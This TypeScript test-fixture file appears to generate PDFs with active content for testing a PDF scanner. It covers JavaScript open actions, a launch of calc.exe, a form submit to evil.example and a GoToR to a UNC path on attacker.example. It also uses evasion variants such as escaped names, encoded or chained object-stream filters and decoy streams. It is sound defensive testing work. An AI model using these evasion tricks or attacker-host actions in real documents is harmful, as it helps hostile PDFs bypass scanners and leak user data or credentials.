import { PDFDocument, PDFName, PDFObject, PDFString, type PDFContext, type PDFRef } from 'pdf-lib';

/**
 * Real PDFs (pdf-lib) that carry JavaScript or actions, for the look through PDFs
 * (src/features/enquiry/files/pdf-active.ts): written plain, or with their dictionaries in compressed object
 * streams as PDF 1.5 writers do, and with names spelled with `#xx` escapes.
 */

/** A name written as given, escapes and all (pdf-lib writes `#xx` only where a name needs one). */
class RawName extends PDFObject {
  constructor(private readonly text: string) {
    super();
  }
  clone(): RawName {
    return this;
  }
  toString(): string {
    return this.text;
  }
  sizeInBytes(): number {
    return this.text.length;
  }
  copyBytesInto(buffer: Uint8Array, offset: number): number {
    for (let i = 0; i < this.text.length; i++) buffer[offset + i] = this.text.charCodeAt(i);
    return this.text.length;
  }
}

/** What a test PDF carries besides its page. */
export type PdfActivity =
  | 'none'
  /** An /OpenAction that is a JavaScript action. */
  | 'open-javascript'
  /** The same, its names spelled /J#61vaScript and /J#53. */
  | 'open-javascript-escaped'
  /** Document-level JavaScript in the /Names tree. */
  | 'names-javascript'
  /** An /OpenAction that launches a program. */
  | 'open-launch'
  /** A page's additional actions (/AA) with a JavaScript action on opening it, its /S spelled with escapes. */
  | 'page-aa'
  /** An /OpenAction that submits a form elsewhere. */
  | 'open-submitform'
  /** A file attached (/EmbeddedFiles, /EmbeddedFile). */
  | 'attachment'
  /** /OpenAction to a page and a zoom, as many PDFs have: not active. */
  | 'open-page';

const jsAction = (context: PDFContext, escaped = false): PDFRef => {
  const action = context.obj({ Type: 'Action', JS: PDFString.of('app.alert("hello");') });
  action.set(PDFName.of('S'), escaped ? new RawName('/J#61vaScript') : PDFName.of('JavaScript'));
  if (escaped) {
    // The key /JS spelled /J#53: the dictionary is written from its map, whatever the key object is.
    const js = action.get(PDFName.of('JS'))!;
    action.delete(PDFName.of('JS'));
    action.set(new RawName('/J#53') as unknown as PDFName, js);
  }
  return context.register(action);
};

/** A PDF of one 100 x 100 mm page carrying `activity`, saved with or without object streams. */
export async function activePdf(activity: PdfActivity, objectStreams: boolean): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([283.46, 283.46]);
  const { context, catalog } = doc;
  switch (activity) {
    case 'open-javascript':
      catalog.set(PDFName.of('OpenAction'), jsAction(context));
      break;
    case 'open-javascript-escaped':
      catalog.set(PDFName.of('OpenAction'), jsAction(context, true));
      break;
    case 'names-javascript':
      catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.obj({ Names: [PDFString.of('hello'), jsAction(context)] }) }));
      break;
    case 'open-launch':
      catalog.set(PDFName.of('OpenAction'), context.register(context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe') })));
      break;
    case 'page-aa':
      page.node.set(PDFName.of('AA'), context.obj({ O: jsAction(context, true) }));
      break;
    case 'open-submitform':
      catalog.set(
        PDFName.of('OpenAction'),
        context.register(context.obj({ Type: 'Action', S: 'SubmitForm', F: context.obj({ FS: 'URL', F: PDFString.of('https://evil.example/collect') }) })),
      );
      break;
    case 'attachment':
      await doc.attach(new TextEncoder().encode('notes for the printer'), 'notes.txt', { mimeType: 'text/plain' });
      break;
    case 'open-page':
      catalog.set(PDFName.of('OpenAction'), context.obj([page.ref, PDFName.of('Fit')]));
      break;
    case 'none':
      break;
  }
  return doc.save({ useObjectStreams: objectStreams });
}

/** The bytes as Latin-1 text, to see what a plain search of the file finds. */
export const latin1 = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);

const encode = (text: string) => new TextEncoder().encode(text);

// Hand-written PDFs for the judge's attacks (issue 62): objects as text, streams with their filters.
export const enc = (text: string) => new TextEncoder().encode(text);
export const join = (...parts: Array<string | Uint8Array>) => {
  const bytes = parts.map((p) => (typeof p === 'string' ? enc(p) : p));
  const out = new Uint8Array(bytes.reduce((n, b) => n + b.length, 0));
  bytes.reduce((at, b) => (out.set(b, at), at + b.length), 0);
  return out;
};
export const deflate = async (bytes: Uint8Array) =>
  new Uint8Array(await new Response(new Blob([bytes as BlobPart]).stream().pipeThrough(new CompressionStream('deflate'))).arrayBuffer());
export const hex = (bytes: Uint8Array, sep = '') => [...bytes].map((b) => b.toString(16).padStart(2, '0')).join(sep);
export const ascii85 = (bytes: Uint8Array) => {
  let out = '';
  for (let i = 0; i < bytes.length; i += 4) {
    const chunk = [0, 1, 2, 3].map((k) => bytes[i + k] ?? 0);
    let n = ((chunk[0]! << 24) | (chunk[1]! << 16) | (chunk[2]! << 8) | chunk[3]!) >>> 0;
    const digits: string[] = [];
    for (let k = 0; k < 5; k++) {
      digits.unshift(String.fromCharCode((n % 85) + 33));
      n = Math.floor(n / 85);
    }
    out += digits.slice(0, Math.min(4, bytes.length - i) + 1).join('');
  }
  return `${out}~>`;
};

/**
 * A PDF as readers read it: numbered objects (1 is the catalogue, 2 the pages, 3 the page), a
 * cross-reference table with each object's offset, and a trailer. `objects` are objects 4 on; a
 * string body is written `N 0 obj … endobj`, bytes are written as they are (a stream's header and data).
 */
export function pdf(catalogExtra: string, objects: Array<string | Uint8Array>): Uint8Array {
  const bodies: Array<string | Uint8Array> = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 283 283] >>',
    ...objects,
  ];
  const parts: Uint8Array[] = [enc('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  const offsets: number[] = [];
  let at = parts[0]!.length;
  bodies.forEach((body, i) => {
    offsets.push(at);
    const bytes = join(`${i + 1} 0 obj\n`, body, '\nendobj\n');
    parts.push(bytes);
    at += bytes.length;
  });
  const xref = `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  return join(...parts, xref, `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`);
}
/** A stream object's body: its dictionary (with /Length) and data. */
export const stream = (dict: string, data: Uint8Array) => join(`<< ${dict} /Length ${data.length} >>\nstream\n`, data, '\nendstream');
/** An object stream's data: object `number` at offset 0. */
export const objStmData = (number: number, object: string) => {
  const head = `${number} 0 `;
  return { data: enc(`${head}${object}`), first: head.length };
};

const deflated = async (bytes: Uint8Array) =>
  new Uint8Array(await new Response(new Blob([bytes as BlobPart]).stream().pipeThrough(new CompressionStream('deflate'))).arrayBuffer());

/**
 * A PDF whose object stream holds a JavaScript action and whose compressed data ends in 0x0d (a
 * CR), followed by `eol` and `endstream`: where the data's own last byte and an end-of-line marker
 * look alike. pdf-lib's files end their streams with a bare LF, and about one in 256 of them has
 * compressed data ending in a CR.
 */
export async function objectStreamEndingInCR(eol: '\n' | '\r\n'): Promise<Uint8Array> {
  for (let n = 0; ; n++) {
    const data = await deflated(encode(`7 0 << /S /JavaScript /JS (app.alert(${n})) >>`));
    if (data[data.length - 1] !== 0x0d) continue;
    return new Uint8Array([
      ...encode(`%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`),
      ...data,
      ...encode(`${eol}endstream\nendobj\n%%EOF\n`),
    ]);
  }
}

/** One file of each class of issue 62's hidden PDFs, each with an /OpenAction a reader runs. */
export async function hiddenActionPdfs(): Promise<Record<string, Uint8Array>> {
  const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const { data, first } = objStmData(5, js);
  return {
    'object stream without /Type, ASCIIHex': pdf('/OpenAction 5 0 R', [stream(`/N 1 /First ${first} /Filter /ASCIIHexDecode`, enc(hex(data)))]),
    'object stream without /Type, ASCII85': pdf('/OpenAction 5 0 R', [stream(`/N 1 /First ${first} /Filter /ASCII85Decode`, enc(ascii85(data)))]),
    'filter chain, spaced hex digits': pdf('/OpenAction 5 0 R', [
      stream(`/Type /ObjStm /N 1 /First ${first} /Filter [/FlateDecode /ASCIIHexDecode]`, await deflate(enc(hex(data, ' ')))),
    ]),
    'decoy stream in a string': pdf('/OpenAction 5 0 R', [stream(`/Decoy (stream\nendstream) /N 1 /First ${first} /Filter /FlateDecode`, await deflate(data))]),
    '/GoToR to a UNC path': pdf('/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>', []),
  };
}
